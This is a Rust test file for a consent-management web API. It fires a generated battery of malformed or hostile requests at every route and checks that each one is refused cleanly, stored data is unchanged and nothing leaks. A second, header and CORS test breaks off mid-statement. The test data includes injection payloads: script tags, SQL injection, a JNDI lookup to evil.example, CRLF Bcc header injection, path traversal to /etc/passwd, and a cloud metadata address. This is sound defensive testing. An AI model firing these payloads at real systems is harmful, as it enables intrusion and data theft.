//! The hostile-input battery: a few hundred generated bad requests across every public and
//! controller route — malformed, truncated and deeply nested JSON, wrong types, unknown fields,
//! huge bodies, invalid UTF-8, confusable and injected addresses, forged / truncated / expired /
//! wrong-purpose / unknown-key tokens, wrong origins, missing and wrong-scope keys, wrong methods
//! and content types, odd paths. Each must get a 4xx problem document (never a 5xx or a trace),
//! and the stored bytes must be the same afterwards.

mod common;

use accord_core::event::Scope;
use accord_core::ids::{Channel, SiteId, SubjectId};
use accord_core::token::{LinkClaims, LinkPurpose, OptInLink, TokenKeyring};
use chrono::{Duration, Utc};
use common::{SITE, Stack, path_of};
use serde_json::{Value, json};

struct Case {
    what: String,
    method: &'static str,
    path: String,
    headers: Vec<(String, String)>,
    bearer: Option<String>,
    body: Option<Vec<u8>>,
}

fn case(what: impl Into<String>, method: &'static str, path: impl Into<String>) -> Case {
    Case { what: what.into(), method, path: path.into(), headers: Vec::new(), bearer: None, body: None }
}

impl Case {
    fn json(mut self, body: impl Into<Vec<u8>>) -> Case {
        self.headers.push(("content-type".into(), "application/json".into()));
        self.body = Some(body.into());
        self
    }
    fn raw(mut self, content_type: &str, body: impl Into<Vec<u8>>) -> Case {
        self.headers.push(("content-type".into(), content_type.into()));
        self.body = Some(body.into());
        self
    }
    fn bearer(mut self, token: Option<&str>) -> Case {
        self.bearer = token.map(str::to_owned);
        self
    }
    fn header(mut self, k: &str, v: &str) -> Case {
        self.headers.push((k.into(), v.into()));
        self
    }
}

/// A JSON route with a valid body; the battery breaks it in every way.
struct JsonRoute {
    method: &'static str,
    path: String,
    bearer: Option<String>,
    valid: Value,
}

fn deep(levels: usize) -> String {
    format!("{{\"email\":{}1{}}}", "[".repeat(levels), "]".repeat(levels))
}

/// Replaces every top-level value with one of the wrong type.
fn wrong_types(valid: &Value) -> Vec<Value> {
    let Some(obj) = valid.as_object() else { return vec![] };
    obj.keys()
        .map(|k| {
            let mut v = valid.clone();
            v[k] = match &valid[k] {
                Value::String(_) => json!(["not", "a", "string"]),
                Value::Number(_) => json!("12"),
                Value::Bool(_) => json!("yes"),
                Value::Array(_) => json!({"not": "a list"}),
                Value::Object(_) => json!(7),
                Value::Null => json!({"x": 1}),
            };
            v
        })
        .collect()
}

fn malformed_bodies(route: &JsonRoute) -> Vec<(String, Vec<u8>)> {
    let valid = route.valid.to_string();
    let mut out: Vec<(String, Vec<u8>)> = vec![
        ("empty body".into(), b"".to_vec()),
        ("open brace".into(), b"{".to_vec()),
        ("cut after key".into(), b"{\"email\":".to_vec()),
        ("array".into(), b"[1,2,3]".to_vec()),
        ("bare literal".into(), b"nul".to_vec()),
        ("string".into(), b"\"hello\"".to_vec()),
        ("number".into(), b"123".to_vec()),
        ("truncated valid body".into(), valid.as_bytes()[..valid.len() / 2].to_vec()),
        ("deep nesting".into(), deep(5000).into_bytes()),
        ("trailing garbage".into(), format!("{valid} x").into_bytes()),
        ("duplicate key".into(), format!("{{\"a\":1,\"a\":2,{}", &valid[1..]).into_bytes()),
        ("huge number".into(), valid.replacen(':', ":1e999999,\"_\":", 1).into_bytes()),
    ];
    let mut with_unknown = route.valid.clone();
    with_unknown["zz_unknown_field"] = json!(true);
    out.push(("unknown field".into(), with_unknown.to_string().into_bytes()));
    let mut bad_utf8 = valid.clone().into_bytes();
    if let Some(i) = bad_utf8.iter().position(|b| b.is_ascii_alphabetic()) {
        bad_utf8.splice(i..i, [0xff, 0xfe, 0xc3]);
    }
    out.push(("invalid UTF-8".into(), bad_utf8));
    for (i, v) in wrong_types(&route.valid).into_iter().enumerate() {
        out.push((format!("wrong type #{i}"), v.to_string().into_bytes()));
    }
    out
}

const BAD_EMAILS: &[&str] = &[
    "<script>alert(1)</script>@example.fr",
    "alice@example.fr\r\nBcc: victim@example.fr",
    "' OR '1'='1@example.fr",
    "alice'; DROP TABLE events;--@example.fr",
    "\u{430}lice@example.fr",
    "alice@ex\u{430}mple.fr",
    "alice@example.fr\u{0}",
    "${jndi:ldap://evil.example/a}@example.fr",
    "../../etc/passwd@example.fr",
    "alice@example.fr%0d%0a",
    "alice@[127.0.0.1]",
    "alice\u{200b}@example.fr",
];

fn token_variants(
    valid: &str,
    keyring: &TokenKeyring,
    foreign: &TokenKeyring,
    subject: &SubjectId,
    purpose: &LinkPurpose,
) -> Vec<(String, String)> {
    let site = SiteId::parse(SITE).unwrap();
    let claims = |site: SiteId, purpose: LinkPurpose, expires: Option<chrono::DateTime<Utc>>| LinkClaims {
        site,
        subject: subject.clone(),
        purpose,
        expires_at: expires,
    };
    let mut flipped = valid.to_owned().into_bytes();
    let last = flipped.len() - 2;
    flipped[last] = if flipped[last] == b'A' { b'B' } else { b'A' };
    let wrong_purpose = match purpose {
        LinkPurpose::Unsubscribe(_) => LinkPurpose::Reconfirm,
        _ => LinkPurpose::Unsubscribe(Scope::All),
    };
    vec![
        ("forged signature".into(), String::from_utf8(flipped).unwrap()),
        ("truncated".into(), valid[..valid.len() - 6].to_owned()),
        ("garbage".into(), "not-a-token".into()),
        ("prefix only".into(), "t1.".into()),
        ("oversized".into(), "A".repeat(600)),
        (
            "expired".into(),
            keyring.issue(&claims(site.clone(), purpose.clone(), Some(Utc::now() - Duration::days(2)))).unwrap(),
        ),
        (
            "unknown key".into(),
            foreign.issue(&claims(site.clone(), purpose.clone(), Some(Utc::now() + Duration::days(2)))).unwrap(),
        ),
        (
            "wrong purpose".into(),
            keyring.issue(&claims(site, wrong_purpose, Some(Utc::now() + Duration::days(2)))).unwrap(),
        ),
        (
            "site without configuration".into(),
            keyring
                .issue(&claims(
                    SiteId::parse("ghost-shop").unwrap(),
                    purpose.clone(),
                    Some(Utc::now() + Duration::days(2)),
                ))
                .unwrap(),
        ),
    ]
}

/// Sends a request whose body is larger than any route accepts the way a careful client does:
/// headers first, and the body only if the server has not already answered (it may refuse on
/// the declared length and close, which would break an ordinary client's pipe before it reads).
fn send_oversized(port: u16, c: &Case, extra: &[(&str, &str)]) -> (u16, String, Value) {
    use std::io::{Read, Write};
    let mut stream = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
    let body = c.body.as_deref().unwrap_or_default();
    let mut head = format!(
        "{} {} HTTP/1.1\r\nhost: 127.0.0.1\r\nconnection: close\r\ncontent-length: {}\r\n",
        c.method,
        c.path,
        body.len()
    );
    for (k, v) in c.headers.iter().map(|(k, v)| (k.as_str(), v.as_str())).chain(extra.iter().copied()) {
        head.push_str(&format!("{k}: {v}\r\n"));
    }
    if let Some(b) = &c.bearer {
        head.push_str(&format!("authorization: Bearer {b}\r\n"));
    }
    head.push_str("\r\n");
    stream.write_all(head.as_bytes()).unwrap();
    stream.set_read_timeout(Some(std::time::Duration::from_secs(2))).unwrap();
    let mut first = [0u8; 1];
    let early = matches!(stream.peek(&mut first), Ok(n) if n > 0);
    if !early {
        let _ = stream.write_all(body);
    }
    stream.set_read_timeout(Some(std::time::Duration::from_secs(30))).unwrap();
    let mut raw = Vec::new();
    let _ = stream.read_to_end(&mut raw);
    let text = String::from_utf8_lossy(&raw).into_owned();
    let (head, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
    let status = head.split_whitespace().nth(1).and_then(|s| s.parse().ok()).unwrap_or(0);
    let content_type = head
        .lines()
        .find_map(|l| {
            l.split_once(':').filter(|(k, _)| k.eq_ignore_ascii_case("content-type")).map(|(_, v)| v.trim().to_owned())
        })
        .unwrap_or_default();
    // The problem document may come chunked: take the JSON object inside.
    let json = body.find('{').and_then(|i| body.rfind('}').map(|j| &body[i..=j])).unwrap_or("");
    (status, content_type, serde_json::from_str(json).unwrap_or(Value::Null))
}

#[test]
fn hostile_requests_get_problem_documents_and_change_nothing() {
    let stack = Stack::start("hostile");
    let admin = stack.api.admin_token().to_owned();
    let site_path = format!("/v1/sites/{SITE}");

    // Something to protect: a consent, keys, a second site, links.
    let submission = json!({
        "email": "alice@example.fr",
        "config_version": stack.config["version"],
        "config_hash": stack.config["hash"],
        "choices": [{"content_type": "special_offers", "channel": "email", "granted": true}]
    });
    let first = stack.api.send(
        "POST",
        &format!("{site_path}/consents"),
        &[("content-type", "application/json"), ("idempotency-key", "k-1")],
        None,
        Some(submission.to_string().as_bytes()),
    );
    assert_eq!(first.status, 201, "{:?}", first.body);
    let subject_text = first.body["event"]["subject"].as_str().unwrap().to_owned();
    let subject = SubjectId::parse(&subject_text).unwrap();
    let key = |site: &str, scopes: &[&str]| {
        let r = stack.api.send(
            "POST",
            &format!("/v1/sites/{site}/api-keys"),
            &[("content-type", "application/json")],
            Some(&admin),
            Some(json!({"label": "battery", "scopes": scopes}).to_string().as_bytes()),
        );
        assert_eq!(r.status, 201, "{:?}", r.body);
        r.body["key"].as_str().unwrap().to_owned()
    };
    let mut other = stack.config["config"].clone();
    other["site"] = json!("other-shop");
    assert_eq!(stack.api.put_admin("/v1/sites/other-shop/config", &other).status, 201);
    let reader = key(SITE, &["read"]);
    let other_admin = key("other-shop", &["read", "write", "admin"]);
    let prefs = stack
        .api
        .post_admin(&format!("{site_path}/links"), &json!({"email": "alice@example.fr", "purpose": "preferences"}));
    assert_eq!(prefs.status, 201, "{:?}", prefs.body);
    let pref_token = prefs.body["url"].as_str().unwrap().rsplit('/').next().unwrap().to_owned();
    let unsub = stack.api.post_admin(
        &format!("{site_path}/unsubscribe-links"),
        &json!({"subject": subject_text, "content_type": "special_offers", "channel": "email"}),
    );
    assert_eq!(unsub.status, 201, "{:?}", unsub.body);
    let unsub_path = path_of(unsub.body["url"].as_str().unwrap());
    let unsub_token = unsub_path.rsplit('/').next().unwrap().to_owned();
    let keyring = TokenKeyring::from_secret(&stack.secrets().token_keys).unwrap();
    let foreign = TokenKeyring::from_secret(&format!("other:{}", "A".repeat(43))).unwrap();
    let in_two_days = Some(Utc::now() + Duration::days(2));
    let reconfirm_token = keyring
        .issue(&LinkClaims {
            site: SiteId::parse(SITE).unwrap(),
            subject: subject.clone(),
            purpose: LinkPurpose::Reconfirm,
            expires_at: in_two_days,
        })
        .unwrap();
    let confirm_purpose =
        LinkPurpose::ConfirmOptIn(OptInLink { channel: Channel::Email, event: 1, issued_at: Utc::now() });
    let confirm_token = keyring
        .issue(&LinkClaims {
            site: SiteId::parse(SITE).unwrap(),
            subject: subject.clone(),
            purpose: confirm_purpose.clone(),
            expires_at: in_two_days,
        })
        .unwrap();

    let before = stack.quiet_storage_digest();
    let mut cases: Vec<Case> = Vec::new();
    let a = Some(admin.as_str());

    // 1. Every JSON route, its body broken every way.
    let json_routes = vec![
        JsonRoute { method: "POST", path: format!("{site_path}/consents"), bearer: None, valid: submission.clone() },
        JsonRoute {
            method: "PUT",
            path: format!("{site_path}/config"),
            bearer: a.map(str::to_owned),
            valid: stack.config["config"].clone(),
        },
        JsonRoute {
            method: "POST",
            path: format!("{site_path}/subjects/lookup"),
            bearer: a.map(str::to_owned),
            valid: json!({"email": "alice@example.fr"}),
        },
        JsonRoute {
            method: "POST",
            path: format!("{site_path}/activity"),
            bearer: a.map(str::to_owned),
            valid: json!({"email": "alice@example.fr", "activity": "order"}),
        },
        JsonRoute {
            method: "POST",
            path: format!("{site_path}/imports"),
            bearer: a.map(str::to_owned),
            valid: json!({"source": "mailchimp", "content_type": "special_offers", "channel": "email", "csv": "Email Address\nbob@example.fr\n"}),
        },
        JsonRoute {
            method: "POST",
            path: format!("{site_path}/links"),
            bearer: a.map(str::to_owned),
            valid: json!({"email": "alice@example.fr", "purpose": "preferences"}),
        },
        JsonRoute {
            method: "POST",
            path: format!("{site_path}/unsubscribe-links"),
            bearer: a.map(str::to_owned),
            valid: json!({"subject": subject_text, "content_type": "special_offers", "channel": "email"}),
        },
        JsonRoute {
            method: "POST",
            path: format!("{site_path}/webhooks"),
            bearer: a.map(str::to_owned),
            valid: json!({"url": "https://hooks.example/accord"}),
        },
        JsonRoute {
            method: "POST",
            path: format!("{site_path}/audience"),
            bearer: a.map(str::to_owned),
            valid: json!({"content_type": "special_offers", "channel": "email", "contacts": [{"email": "alice@example.fr"}]}),
        },
        JsonRoute {
            method: "POST",
            path: format!("{site_path}/api-keys"),
            bearer: a.map(str::to_owned),
            valid: json!({"label": "x", "scopes": ["read"]}),
        },
        JsonRoute {
            method: "POST",
            path: format!("/v1/preferences/{pref_token}"),
            bearer: None,
            valid: json!({"withdraw_all": true}),
        },
    ];
    for route in &json_routes {
        for (what, body) in malformed_bodies(route) {
            cases.push(
                case(format!("{} {}: {what}", route.method, route.path), route.method, route.path.clone())
                    .json(body)
                    .bearer(route.bearer.as_deref()),
            );
        }
    }
    // Routes that take no parameters refuse any.
    for path in [
        format!("{site_path}/subjects/{subject_text}/erase"),
        format!("{site_path}/lifecycle/run"),
        format!("/v1/reconfirm/{reconfirm_token}"),
    ] {
        let bearer = if path.starts_with("/v1/reconfirm") { None } else { a };
        for (what, body) in [
            ("parameters", &b"{\"force\":true}"[..]),
            ("malformed", b"{"),
            ("array", b"[]"),
            ("invalid UTF-8", b"{\"\xff\":1}"),
        ] {
            cases.push(case(format!("POST {path}: {what}"), "POST", path.clone()).json(body.to_vec()).bearer(bearer));
        }
    }

    // 2. Addresses that are injections or look-alikes, wherever an address is taken.
    for email in BAD_EMAILS {
        let mut s = submission.clone();
        s["email"] = json!(email);
        cases.push(
            case(format!("consent with address {email:?}"), "POST", format!("{site_path}/consents"))
                .json(s.to_string()),
        );
        cases.push(
            case(format!("lookup of {email:?}"), "POST", format!("{site_path}/subjects/lookup"))
                .json(json!({"email": email}).to_string())
                .bearer(a),
        );
        cases.push(
            case(format!("link for {email:?}"), "POST", format!("{site_path}/links"))
                .json(json!({"email": email, "purpose": "preferences"}).to_string())
                .bearer(a),
        );
    }
    // Unknown versions and replays.
    let mut unknown_version = submission.clone();
    unknown_version["config_version"] = json!(4_000_000_000u64);
    cases.push(
        case("consent quoting an unknown version", "POST", format!("{site_path}/consents"))
            .json(unknown_version.to_string()),
    );
    let mut wrong_hash = submission.clone();
    wrong_hash["config_hash"] = json!("0".repeat(64));
    cases.push(
        case("consent quoting a different text", "POST", format!("{site_path}/consents")).json(wrong_hash.to_string()),
    );
    let mut changed = submission.clone();
    changed["choices"][0]["granted"] = json!(false);
    cases.push(
        case("replayed idempotency key, other body", "POST", format!("{site_path}/consents"))
            .json(changed.to_string())
            .header("idempotency-key", "k-1"),
    );
    cases.push(
        case("over-long idempotency key", "POST", format!("{site_path}/consents"))
            .json(submission.to_string())
            .header("idempotency-key", &"k".repeat(300)),
    );

    // 3. Sizes: declared and actual, with and without a length.
    cases.push(case("70 KiB consent", "POST", format!("{site_path}/consents")).json(vec![b' '; 70 * 1024]));
    cases.push(case("3 MiB audience", "POST", format!("{site_path}/audience")).json(vec![b' '; 3 << 20]).bearer(a));
    cases.push(case("9 MiB import", "POST", format!("{site_path}/imports")).json(vec![b' '; 9 << 20]).bearer(a));
    cases.push(case("1 MiB config", "PUT", format!("{site_path}/config")).json(vec![b' '; 1 << 20]).bearer(a));
    cases.push(
        case("1 MiB preference change", "POST", format!("/v1/preferences/{pref_token}")).json(vec![b' '; 1 << 20]),
    );

    // 4. Credentials: none, wrong, malformed, another site's, too weak.
    let controller: Vec<(&'static str, String, Option<Value>)> = vec![
        ("PUT", format!("{site_path}/config"), Some(stack.config["config"].clone())),
        ("POST", format!("{site_path}/subjects/lookup"), Some(json!({"email": "alice@example.fr"}))),
        ("GET", format!("{site_path}/subjects/{subject_text}"), None),
        ("GET", format!("{site_path}/subjects/{subject_text}/receipts"), None),
        ("GET", format!("{site_path}/subjects/{subject_text}/proofs"), None),
        ("GET", format!("{site_path}/subjects/{subject_text}/export"), None),
        ("GET", format!("{site_path}/subjects/{subject_text}/export/page"), None),
        ("POST", format!("{site_path}/subjects/{subject_text}/erase"), Some(json!({}))),
        ("POST", format!("{site_path}/activity"), Some(json!({"email": "alice@example.fr", "activity": "order"}))),
        (
            "POST",
            format!("{site_path}/imports"),
            Some(
                json!({"source": "mailchimp", "content_type": "special_offers", "channel": "email", "csv": "Email Address\nbob@example.fr\n"}),
            ),
        ),
        ("POST", format!("{site_path}/links"), Some(json!({"email": "alice@example.fr", "purpose": "preferences"}))),
        (
            "POST",
            format!("{site_path}/unsubscribe-links"),
            Some(json!({"subject": subject_text, "content_type": "special_offers", "channel": "email"})),
        ),
        ("POST", format!("{site_path}/lifecycle/run"), Some(json!({}))),
        ("POST", format!("{site_path}/webhooks"), Some(json!({"url": "https://hooks.example/accord"}))),
        ("GET", format!("{site_path}/webhooks"), None),
        ("DELETE", format!("{site_path}/webhooks/wh_0123456789abcdef"), None),
        ("GET", format!("{site_path}/webhooks/deliveries"), None),
        (
            "POST",
            format!("{site_path}/audience"),
            Some(
                json!({"content_type": "special_offers", "channel": "email", "contacts": [{"email": "alice@example.fr"}]}),
            ),
        ),
        ("POST", format!("{site_path}/api-keys"), Some(json!({"label": "x", "scopes": ["admin"]}))),
        ("GET", format!("{site_path}/api-keys"), None),
        ("DELETE", format!("{site_path}/api-keys/0123456789abcdef"), None),
        ("GET", format!("{site_path}/audit"), None),
        ("GET", format!("{site_path}/compliance"), None),
        ("GET", format!("{site_path}/record-of-processing"), None),
        ("GET", format!("{site_path}/record-of-processing/page"), None),
    ];
    let forged_admin = format!("{}{}", &admin[..admin.len() - 1], if admin.ends_with('x') { 'y' } else { 'x' });
    for (method, path, body) in &controller {
        // (what, bearer token, extra header)
        type Variant<'a> = (&'a str, Option<String>, Option<(&'a str, String)>);
        let variants: Vec<Variant> = vec![
            ("no credentials", None, None),
            ("wrong token", Some(forged_admin.clone()), None),
            ("other site's admin key", Some(other_admin.clone()), None),
            ("basic auth", None, Some(("authorization", format!("Basic {}", admin)))),
            ("empty bearer", None, Some(("authorization", "Bearer ".to_owned()))),
        ];
        for (what, bearer, header) in variants {
            let mut c = case(format!("{method} {path}: {what}"), method, path.clone()).bearer(bearer.as_deref());
            if let Some(b) = body {
                c = c.json(b.to_string());
            }
            if let Some((k, v)) = header {
                c = c.header(k, &v);
            }
            cases.push(c);
        }
        if *method != "GET" && !path.ends_with("/lookup") && !path.ends_with("/audience") {
            let mut c = case(format!("{method} {path}: read-only key"), method, path.clone()).bearer(Some(&reader));
            if let Some(b) = body {
                c = c.json(b.to_string());
            }
            cases.push(c);
        }
    }

    // 5. Signed links: forged, cut, expired, from an unknown key, for another purpose or site.
    let token_routes: Vec<(&'static str, &str, &str, LinkPurpose)> = vec![
        ("GET", "/u/", &unsub_token, LinkPurpose::Unsubscribe(Scope::All)),
        ("POST", "/u/", &unsub_token, LinkPurpose::Unsubscribe(Scope::All)),
        ("GET", "/p/", &pref_token, LinkPurpose::Preferences),
        ("POST", "/p/", &pref_token, LinkPurpose::Preferences),
        ("GET", "/v1/preferences/", &pref_token, LinkPurpose::Preferences),
        ("POST", "/v1/preferences/", &pref_token, LinkPurpose::Preferences),
        ("GET", "/c/", &confirm_token, confirm_purpose.clone()),
        ("POST", "/c/", &confirm_token, confirm_purpose.clone()),
        ("GET", "/r/", &reconfirm_token, LinkPurpose::Reconfirm),
        ("POST", "/r/", &reconfirm_token, LinkPurpose::Reconfirm),
        ("POST", "/v1/reconfirm/", &reconfirm_token, LinkPurpose::Reconfirm),
        ("GET", "/v1/reconfirm/", &reconfirm_token, LinkPurpose::Reconfirm),
    ];
    for (method, prefix, valid, purpose) in &token_routes {
        for (what, token) in token_variants(valid, &keyring, &foreign, &subject, purpose) {
            let mut c = case(format!("{method} {prefix}: {what} token"), method, format!("{prefix}{token}"));
            c = match (*method, *prefix) {
                ("POST", "/u/") => c.raw("application/x-www-form-urlencoded", "List-Unsubscribe=One-Click"),
                ("POST", "/p/") => c.raw("application/x-www-form-urlencoded", "withdraw_all=1"),
                ("POST", "/v1/preferences/") => c.json(json!({"withdraw_all": true}).to_string()),
                _ => c,
            };
            cases.push(c);
        }
    }

    // 6. Origins, methods, content types, paths.
    for origin in ["https://evil.example", "null", "http://127.0.0.1.evil.example"] {
        cases.push(
            case(format!("consent from {origin}"), "POST", format!("{site_path}/consents"))
                .json(submission.to_string())
                .header("origin", origin),
        );
        cases.push(
            case(format!("preflight from {origin}"), "OPTIONS", format!("{site_path}/consents"))
                .header("origin", origin)
                .header("access-control-request-method", "POST"),
        );
        cases.push(
            case(format!("preference change from {origin}"), "POST", format!("/v1/preferences/{pref_token}"))
                .json(json!({"withdraw_all": true}).to_string())
                .header("origin", origin),
        );
        cases.push(
            case(format!("re-confirmation from {origin}"), "POST", format!("/v1/reconfirm/{reconfirm_token}"))
                .header("origin", origin),
        );
    }
    for (method, path) in [
        ("DELETE", format!("{site_path}/consents")),
        ("PATCH", format!("{site_path}/config")),
        ("PUT", format!("{site_path}/consents")),
        ("GET", format!("{site_path}/consents")),
        ("POST", "/health".to_owned()),
        ("DELETE", "/v1/keys".to_owned()),
        ("PUT", format!("{site_path}/checkpoints/0")),
        ("POST", format!("{site_path}/audit")),
        ("PUT", format!("/u/{unsub_token}")),
        ("DELETE", format!("/v1/preferences/{pref_token}")),
        ("PUT", format!("/v1/reconfirm/{reconfirm_token}")),
        ("GET", format!("{site_path}/subjects/{subject_text}/erase")),
    ] {
        cases.push(case(format!("{method} {path}"), method, path).bearer(a));
    }
    // Methods the worker's `Method` type does not know must not be read as GET. (Methods the
    // runtime's HTTP parser does not know, such as BREW, it answers 501 itself.)
    for (method, path) in [
        ("QUERY", "/console".to_owned()),
        ("PROPFIND", "/health".to_owned()),
        ("MKCOL", format!("{site_path}/config")),
        ("QUERY", format!("{site_path}/widget")),
    ] {
        cases.push(case(format!("{method} {path}"), method, path));
    }
    for ct in [
        "text/plain",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "application/jsonp",
        "text/json",
    ] {
        cases.push(
            case(format!("consent as {ct}"), "POST", format!("{site_path}/consents")).raw(ct, submission.to_string()),
        );
        cases.push(
            case(format!("config as {ct}"), "PUT", format!("{site_path}/config"))
                .raw(ct, stack.config["config"].to_string())
                .bearer(a),
        );
        cases.push(
            case(format!("preference change as {ct}"), "POST", format!("/v1/preferences/{pref_token}"))
                .raw(ct, "{\"withdraw_all\":true}"),
        );
    }
    let mut untyped = case("consent without content type", "POST", format!("{site_path}/consents"));
    untyped.body = Some(submission.to_string().into_bytes());
    cases.push(untyped);
    for path in [
        "/v1/sites/../../etc/passwd".to_owned(),
        "/v1/sites/DEMO-SHOP/config".to_owned(),
        "/v1/sites/demo%20shop/config".to_owned(),
        format!("/v1/sites/{}/config", "a".repeat(300)),
        "/v1/sites/demo-shop%00/config".to_owned(),
        "/v1/sites/d\u{e9}mo/config".replace('\u{e9}', "%C3%A9"),
        format!("{site_path}/config/0"),
        format!("{site_path}/config/-1"),
        format!("{site_path}/config/99999999999"),
        format!("{site_path}/checkpoints/16"),
        format!("{site_path}/checkpoints/-1"),
        format!("{site_path}/checkpoints/0/consistency/x"),
        format!("{site_path}/subjects/sub_zz/receipts"),
        format!("{site_path}/subjects/{subject_text}x/receipts"),
        format!("{site_path}/webhooks/wh_xyz"),
        format!("{site_path}/api-keys/not-an-id"),
        "/v1/sites".to_owned(),
        "/wp-admin/".to_owned(),
        "/.env".to_owned(),
        format!("/u/{}", "A".repeat(2000)),
    ] {
        cases.push(case(format!("GET {path}"), "GET", path).bearer(a));
    }

    // 7. The security review's inputs (#20): URLs that only look like loopback or carry
    // credentials, texts with line breaks for mail headers, header injection through mailto.
    for url in [
        "http://127.0.0.1:1@crm.example/",
        "https://user:pw@hooks.example/",
        "https://169.254.169.254/latest",
        "http://localhost.evil.example/",
        "https://hooks.example/\r\nx",
    ] {
        cases.push(
            case(format!("webhook to {url:?}"), "POST", format!("{site_path}/webhooks"))
                .json(json!({"url": url}).to_string())
                .bearer(a),
        );
    }
    for (field, value) in [
        ("name", json!("Boutique\r\nBcc: victim@example.fr")),
        ("name", json!("B".repeat(201))),
        ("contact", json!("dpo@boutique.example\u{1b}[2J")),
    ] {
        let mut c = stack.config["config"].clone();
        c["controller"][field] = value;
        cases.push(
            case(
                format!(
                    "config with controller.{field} {:?}",
                    c["controller"][field].to_string().chars().take(30).collect::<String>()
                ),
                "PUT",
                format!("{site_path}/config"),
            )
            .json(c.to_string())
            .bearer(a),
        );
    }
    for url in ["http://127.0.0.1:1@evil.example/", "http://127.0.0.1.evil.example/p", "https://boutique.example/\np"] {
        let mut c = stack.config["config"].clone();
        c["privacy_policy_url"] = json!(url);
        cases.push(
            case(format!("config with policy {url:?}"), "PUT", format!("{site_path}/config"))
                .json(c.to_string())
                .bearer(a),
        );
    }
    for mailto in ["unsub@shop.example\r\nBcc: victim@example.fr", "unsub@shop.example>, <https://evil.example/"] {
        let body =
            json!({"subject": subject_text, "content_type": "special_offers", "channel": "email", "mailto": mailto});
        cases.push(
            case(format!("unsubscribe link with mailto {mailto:?}"), "POST", format!("{site_path}/unsubscribe-links"))
                .json(body.to_string())
                .bearer(a),
        );
    }

    assert!(cases.len() >= 200, "the battery has {} requests", cases.len());
    let mut failures = Vec::new();
    let mut last_digest = before.clone();
    for (i, c) in cases.iter().enumerate() {
        // Each case from its own address, so per-client limits do not mask what is tested.
        let ip = format!("192.0.2.{}", i % 250 + 1);
        let ip = if i >= 250 { format!("198.51.100.{}", i % 250 + 1) } else { ip };
        let mut headers: Vec<(&str, &str)> = c.headers.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
        headers.push(("x-forwarded-for", &ip));
        // Bodies past the limit, and methods HTTP clients refuse to send, go out by hand.
        let unusual = !["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"].contains(&c.method);
        let (status, content_type, body) = if unusual || c.body.as_ref().is_some_and(|b| b.len() > 64 * 1024) {
            send_oversized(stack.edge.port, c, &[("x-forwarded-for", &ip)])
        } else {
            let reply = stack.api.send(c.method, &c.path, &headers, c.bearer.as_deref(), c.body.as_deref());
            (reply.status, reply.content_type, reply.body)
        };
        let text = body.to_string();
        let problem = content_type.starts_with("application/problem+json")
            && body["status"].as_u64() == Some(u64::from(status))
            && body["title"].is_string();
        let leaks = ["panicked", "RuntimeError", "stack", "backtrace", ".rs:", "wasm-function"]
            .iter()
            .any(|s| text.contains(s));
        if !(400..500).contains(&status) || !problem || leaks {
            failures.push(format!(
                "{}: {} {} → {status} {content_type} {}",
                c.what,
                c.method,
                c.path.chars().take(80).collect::<String>(),
                text.chars().take(200).collect::<String>()
            ));
        }
        let digest = stack.storage_digest();
        if digest != last_digest {
            let changed: Vec<&String> = digest.iter().filter(|f| !last_digest.contains(f)).map(|f| &f.0).collect();
            failures.push(format!(
                "{}: {} {} changed stored files {changed:?}",
                c.what,
                c.method,
                c.path.chars().take(80).collect::<String>()
            ));
            last_digest = digest;
        }
    }
    println!("hostile battery: {} requests, {} failures", cases.len(), failures.len());
    assert!(
        failures.is_empty(),
        "{} of {} hostile requests were not answered with a 4xx problem document:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );

    let after = stack.quiet_storage_digest();
    let changed: Vec<&String> = after.iter().filter(|f| !before.contains(f)).map(|f| &f.0).collect();
    assert!(changed.is_empty(), "the stored data changed under hostile input: {changed:?}");
    // Still intact and still the same for its owner.
    let receipts = stack.api.get_admin(&format!("{site_path}/subjects/{subject_text}/receipts"));
    assert_eq!(receipts.body["receipts"].as_array().map(Vec::len), Some(1));
    // The digest does see a real change: one good request moves it.
    let mut good = submission.clone();
    good["email"] = json!("bob@example.fr");
    let ok = stack.api.send(
        "POST",
        &format!("{site_path}/consents"),
        &[("content-type", "application/json")],
        None,
        Some(good.to_string().as_bytes()),
    );
    assert_eq!(ok.status, 201);
    assert_ne!(stack.storage_digest(), after, "a stored consent changes the digest");
    let log = stack.log();
    for secret in ["alice@example.fr", "bob@example.fr", "192.0.2.", "198.51.100.", "victim@example.fr"] {
        assert!(!log.contains(secret), "{secret} appeared in the runtime's log");
    }
}

#[test]
fn security_headers_and_cors() {
    let stack = Stack::start("headers");
    let admin = stack.api.admin_token().to_owned();
    let site_path = format!("/v1/sites/{SITE}");
    let allowed = stack.site.url();
    let submission = json!({
        "email": "headers@example.fr",
        "config_version": stack.config["version"],
        "config_hash": stack.config["hash"],
        "choices": [{"content_type": "special_offers", "channel": "email", "granted": true}]
    });
    let json_ct = ("content-type", "application/json");

    // The widget's own origin gets exactly itself back, never a wildcard.
    let ok = stack.api.send(
        "POST",
        &format!("{site_path}/consents"),
        &[json_ct, ("origin", &allowed)],
        None,
        Some(submission.to_string().as_bytes()),
    );
    assert_eq!(ok.status, 201, "{:?}", ok.body);
    assert_eq!(ok.header("access-control-allow-origin"), Some(allowed.as_str()));
    assert!(ok.header("vary").is_some_and(|v| v.to_ascii_lowercase().contains("origin")));
    assert_eq!(ok.header("x-content-type-options"), Some("nosniff"), "JSON answers are not sniffed either");
    let subject = ok.body["event"]["subject"].as_str().unwrap().to_owned();

    // Controller routes never answer a browser's cross-origin request, even with a good token.
    for (method, path) in [
        ("GET", format!("{site_path}/subjects/{subject}")),
        ("GET", format!("{site_path}/subjects/{subject}/export")),
        ("GET", format!("{site_path}/api-keys")),
        ("GET", format!("{site_path}/audit")),
        ("GET", format!("{site_path}/record-of-processing")),
        ("OPTIONS", format!("{site_path}/subjects/lookup")),
        ("OPTIONS", format!("{site_path}/api-keys")),
    ] {
        for origin in [allowed.as_str(), "https://evil.example"] {
            let r = stack.api.send(
                method,
                &path,
                &[("origin", origin), ("access-control-request-method", "POST")],
                Some(&admin),
                None,
            );
            assert_eq!(r.header("access-control-allow-origin"), None, "{method} {path} from {origin}: {:?}", r.headers);
            assert_eq!(r.header("access-control-allow-credentials"), None);
        }
    }

    // Every HTML page: a strict CSP that forbids framing, no sniffing, no caching of personal pages.
    let unsub = stack.api.post_admin(
        &format!("{site_path}/unsubscribe-links"),
